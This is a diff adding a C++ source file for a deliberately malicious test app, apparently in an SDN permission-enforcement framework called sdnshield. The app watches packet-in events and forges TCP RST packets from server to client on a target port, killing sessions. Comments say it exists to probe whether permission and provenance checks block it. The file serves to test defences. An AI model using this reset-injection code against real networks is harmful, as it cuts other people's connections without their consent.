@@ -1,0 +1,45 @@
+#include "apps/malicious/rst_injector.h"
+
+namespace sdnshield::apps {
+
+std::string RstInjectorApp::requestedManifest() const {
+  return "APP rst_injector\n"
+         "PERM pkt_in_event\n"
+         "PERM read_payload\n"
+         "PERM send_pkt_out LIMITING ARBITRARY\n";
+}
+
+void RstInjectorApp::init(ctrl::AppContext& context) {
+  context_ = &context;
+  // Subscription may already be denied under restrictive permissions; the
+  // attack then never observes any traffic.
+  context.subscribePacketIn(
+      [this](const ctrl::PacketInEvent& event) { onPacketIn(event); });
+}
+
+void RstInjectorApp::onPacketIn(const ctrl::PacketInEvent& event) {
+  const of::PacketIn& packetIn = event.packetIn;
+  const of::Packet& seen = packetIn.packet;
+  if (!seen.ipv4 || !seen.tcp || seen.tcp->dstPort != targetPort_) return;
+
+  // Forge a RST from the server back to the client, killing the session.
+  of::Packet rst = of::Packet::makeTcp(
+      seen.eth.dst, seen.eth.src, seen.ipv4->dst, seen.ipv4->src,
+      seen.tcp->dstPort, seen.tcp->srcPort,
+      of::tcpflags::kRst | of::tcpflags::kAck);
+  rst.tcp->ack = seen.tcp->seq + 1;
+
+  of::PacketOut out;
+  out.dpid = packetIn.dpid;
+  out.inPort = of::ports::kNone;
+  out.packet = rst;
+  out.fromPacketIn = false;  // Fabricated — the provenance check will agree.
+  out.actions.push_back(of::OutputAction{packetIn.inPort});
+  if (context_->api().sendPacketOut(out).ok) {
+    rstsSent_.fetch_add(1);
+  } else {
+    denied_.fetch_add(1);
+  }
+}
+
+}  // namespace sdnshield::apps
